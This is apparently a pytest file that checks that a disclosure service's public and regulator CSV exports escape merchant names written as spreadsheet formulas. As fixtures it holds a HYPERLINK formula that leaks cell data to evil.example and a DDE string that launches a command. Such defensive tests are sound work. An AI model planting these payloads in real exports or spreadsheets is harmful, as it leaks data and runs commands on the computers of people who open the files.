"""CSV injection: a merchant's name that is a spreadsheet formula comes out of every export as text."""

import csv
import io

from tests.conftest import Keys, register

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")'


def _rows(content: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"))))


def test_a_formula_name_is_text_in_the_public_and_regulator_exports(client, db, dispatcher, keys):
    ent = register(db, name_zh=EVIL, name_en="+cmd|' /C calc'!A0")
    dispatcher.drain()
    r = client.get("/api/v1/public/disclosures/export", params={"uscc": ent.uscc, "category": "entity"})
    assert r.status_code == 200, r.text
    (row,) = _rows(r.content)
    assert row["enterprise_name"] == "'" + EVIL
    assert row["uscc"] == ent.uscc  # ordinary cells are untouched
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row.values())

    regulator = Keys.header(keys.regulator)
    job = client.post(
        "/api/v1/disclosures/exports", params={"uscc": ent.uscc, "format": "csv"}, headers=regulator
    ).json()
    client.app.state.jobs.wait(30)
    file = client.get(f"/api/v1/disclosures/exports/{job['id']}/file", headers=regulator)
    assert file.status_code == 200, file.text
    rows = _rows(file.content)
    assert rows and all(r["enterprise_name"] == "'" + EVIL for r in rows)
    assert not any(cell.startswith(("=", "+", "-", "@")) for r in rows for cell in r.values())
